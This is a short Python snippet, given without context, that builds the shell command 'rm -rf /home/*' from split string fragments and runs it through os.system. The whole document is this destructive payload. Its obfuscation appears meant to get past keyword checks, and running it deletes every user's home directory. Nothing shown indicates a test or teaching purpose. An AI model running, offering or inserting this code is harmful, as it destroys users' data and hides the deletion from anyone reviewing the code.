import os
r = "r" + "m"
os.system(f"{r} -{'r'}f {'/'}home/*")
